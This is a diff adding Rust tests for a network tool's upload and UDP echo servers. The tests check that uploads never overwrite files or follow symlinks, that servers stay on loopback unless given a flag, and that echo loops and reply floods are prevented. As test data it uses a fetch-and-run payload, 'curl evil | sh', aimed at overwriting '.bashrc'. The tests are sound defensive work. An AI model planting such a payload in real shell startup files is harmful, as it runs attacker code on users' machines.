@@ -339,7 +339,7 @@ fn cmd_server_is_loopback_only_unless_told() {
         assert!(err.contains("--unauthenticated-remote-ok"), "{err}");
         assert!(!out.contains("listening"), "{out}");
     }
-    // The other programs have no such rule, and loopback names are fine.
+    // Loopback names are fine.
     let (_ok, _) = skiff_server("cmd-server", &["--host", "localhost"]);
     // With the flag it listens, and warns; only loopback traffic is sent.
     let (mut p, port) = skiff_server(
@@ -811,6 +811,118 @@ fn upload_server_refuses_bad_uploads_and_leaves_nothing() {
     assert!(!server.stderr().contains("panicked"));
 }
 
+#[test]
+fn upload_server_never_overwrites_unless_told() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("root");
+    std::fs::create_dir(&root).unwrap();
+    let rc = root.join(".bashrc");
+    std::fs::write(&rc, b"mine").unwrap();
+    let outside = dir.path().join("outside.txt");
+    std::fs::write(&outside, b"outside").unwrap();
+    std::os::unix::fs::symlink(&outside, root.join("link")).unwrap();
+    std::os::unix::fs::symlink(dir.path().join("nothing"), root.join("dangling")).unwrap();
+    let root_arg = root.to_str().unwrap();
+    let (server, port) = skiff_server("upload-server", &["--root", root_arg]);
+    let evil = b"curl evil | sh".to_vec();
+    let upload = |name: &str, data: &[u8]| {
+        raw_upload(
+            &port,
+            &upload_bytes(&header(name, data.len() as i64, data), data),
+        )
+    };
+    let reset = Err(io::ErrorKind::ConnectionReset);
+
+    // An existing file, a symlink to a file outside, a dangling symlink:
+    // all refused, none followed or changed.
+    assert_eq!(upload(".bashrc", &evil), reset);
+    assert_eq!(upload("/home/u/.bashrc", &evil), reset);
+    assert_eq!(upload("link", &evil), reset);
+    assert_eq!(upload("dangling", &evil), reset);
+    assert_eq!(std::fs::read(&rc).unwrap(), b"mine");
+    assert_eq!(std::fs::read(&outside).unwrap(), b"outside");
+    assert!(!dir.path().join("nothing").exists());
+    // A new name is stored; a second upload of it is refused.
+    assert_eq!(upload("new.bin", b"first"), Ok(()));
+    assert_eq!(upload("new.bin", b"second"), reset);
+    assert_eq!(std::fs::read(root.join("new.bin")).unwrap(), b"first");
+    // The skiff client reports the refusal.
+    let mine = dir.path().join(".bashrc");
+    std::fs::write(&mine, &evil).unwrap();
+    let mut p = Command::new(skiff_bin());
+    p.args(["classic", "upload-client", "--port", &port])
+        .arg(&mine);
+    let (status, _, err) = Proc::spawn(p).finish();
+    assert_eq!(status.code(), Some(1), "{err}");
+    assert!(err.contains("refused"), "{err}");
+    assert_eq!(std::fs::read(&rc).unwrap(), b"mine");
+    // No temporary file is left behind.
+    assert_eq!(names_in(&root), [".bashrc", "dangling", "link", "new.bin"]);
+    assert!(server.stderr().contains("exists"), "{}", server.stderr());
+    drop(server);
+
+    // With --overwrite the file is replaced, and a symlink is replaced
+    // itself: its target outside the root is never written.
+    let (_server, port) = skiff_server("upload-server", &["--root", root_arg, "--overwrite"]);
+    let upload = |name: &str, data: &[u8]| {
+        raw_upload(
+            &port,
+            &upload_bytes(&header(name, data.len() as i64, data), data),
+        )
+    };
+    assert_eq!(upload(".bashrc", b"replaced"), Ok(()));
+    assert_eq!(std::fs::read(&rc).unwrap(), b"replaced");
+    assert_eq!(upload("link", b"not outside"), Ok(()));
+    assert!(!std::fs::symlink_metadata(root.join("link"))
+        .unwrap()
+        .file_type()
+        .is_symlink());
+    assert_eq!(std::fs::read(&outside).unwrap(), b"outside");
+}
+
+#[test]
+fn upload_server_is_loopback_only_unless_told() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().to_str().unwrap();
+    for host in ["0.0.0.0", "::"] {
+        let (status, out, err) = run_skiff(
+            &[
+                "upload-server",
+                "--host",
+                host,
+                "--port",
+                "0",
+                "--root",
+                root,
+            ],
+            "",
+        );
+        assert!(!status.success(), "{out}");
+        assert!(err.contains("refusing to listen"), "{err}");
+        assert!(err.contains("no authentication"), "{err}");
+        assert!(err.contains("--unauthenticated-remote-ok"), "{err}");
+        assert!(!out.contains("listening"), "{out}");
+    }
+    // With the flag it listens, and warns; only loopback traffic is sent.
+    let (mut p, port) = skiff_server(
+        "upload-server",
+        &[
+            "--host",
+            "0.0.0.0",
+            "--unauthenticated-remote-ok",
+            "--root",
+            root,
+        ],
+    );
+    assert_eq!(
+        raw_upload(&port, &upload_bytes(&header("a.txt", 2, b"ok"), b"ok")),
+        Ok(())
+    );
+    assert_eq!(std::fs::read(dir.path().join("a.txt")).unwrap(), b"ok");
+    let _ = p.child.kill();
+    assert!(p.stderr().contains("WARNING"), "{}", p.stderr());
+}
+
 // ---------------------------------------------------------------- udp
 
 #[test]
@@ -866,4 +978,86 @@ fn udp_server_echoes_empty_and_large_datagrams() {
     s.send(&big).unwrap();
     let n = s.recv(&mut buf).unwrap();
     assert_eq!(&buf[..n], big.to_ascii_uppercase().as_slice());
+}
+
+/// Waits a moment for an answer that must not come.
+fn assert_unanswered(socket: &UdpSocket, why: &str) {
+    socket
+        .set_read_timeout(Some(Duration::from_millis(500)))
+        .unwrap();
+    let mut buf = [0u8; 64];
+    if let Ok((n, from)) = socket.recv_from(&mut buf) {
+        panic!(
+            "{why}: answered {:?} from {from}",
+            String::from_utf8_lossy(&buf[..n])
+        );
+    }
+}
+
+#[test]
+fn udp_server_does_not_answer_sources_that_would_loop() {
+    let (server, port) = skiff_server("udp-server", &[]);
+    let to = format!("127.0.0.1:{port}");
+    // The server's own port on another address: a second echo server (a
+    // forged datagram between the two would bounce forever), or the server
+    // itself with a forged source address.
+    let twin = UdpSocket::bind(format!("127.0.0.2:{port}")).unwrap();
+    twin.send_to(b"loop?", &to).unwrap();
+    assert_unanswered(&twin, "a datagram from the server's own port");
+    // Well-known echo-loop ports (binding them needs root; the decision
+    // itself is unit-tested in skiff-classic's udp_guard).
+    let mut checked = 0;
+    for loop_port in [7, 13, 19, 37] {
+        match UdpSocket::bind(("127.0.0.3", loop_port)) {
+            Ok(s) => {
+                s.send_to(b"loop?", &to).unwrap();
+                assert_unanswered(&s, &format!("a datagram from port {loop_port}"));
+                checked += 1;
+            }
+            Err(e) => eprintln!("cannot bind port {loop_port} ({e}): not checked end to end"),
+        }
+    }
+    eprintln!("{checked} loop ports checked end to end");
+    // Everybody else is still answered.
+    let c = UdpSocket::bind("127.0.0.1:0").unwrap();
+    c.set_read_timeout(Some(PATIENCE)).unwrap();
+    c.send_to(b"fine", &to).unwrap();
+    let mut buf = [0u8; 16];
+    let n = c.recv(&mut buf).unwrap();
+    assert_eq!(&buf[..n], b"FINE");
+    assert!(!server.stderr().contains("panicked"));
+}
+
+#[test]
+fn udp_server_limits_replies_per_source() {
+    let (_server, port) = skiff_server("udp-server", &["--max-replies-per-sec", "5"]);
+    let to = format!("127.0.0.1:{port}");
+    let flood = UdpSocket::bind("127.0.0.1:0").unwrap();
+    flood.connect(&to).unwrap();
+    let started = Instant::now();
+    for i in 0..200 {
+        flood.send(format!("m{i}").as_bytes()).unwrap();
+    }
+    flood
+        .set_read_timeout(Some(Duration::from_millis(500)))
+        .unwrap();
+    let mut answered = 0u32;
+    let mut buf = [0u8; 64];
+    while flood.recv(&mut buf).is_ok() {
+        answered += 1;
+        assert!(started.elapsed() < PATIENCE, "answers never stop");
+    }
+    // A burst of 10, then 5 per second.
+    let allowed = 10.0 + 5.0 * started.elapsed().as_secs_f64() + 1.0;
+    assert!(answered >= 10, "only {answered} answers");
+    assert!(
+        f64::from(answered) <= allowed,
+        "{answered} answers to 200 datagrams (allowed {allowed:.0})"
+    );
+    // Another source is answered meanwhile.
+    let other = UdpSocket::bind("127.0.0.2:0").unwrap();
+    other.set_read_timeout(Some(PATIENCE)).unwrap();
+    other.send_to(b"me too", &to).unwrap();
+    let n = other.recv(&mut buf).unwrap();
+    assert_eq!(&buf[..n], b"ME TOO");
 }
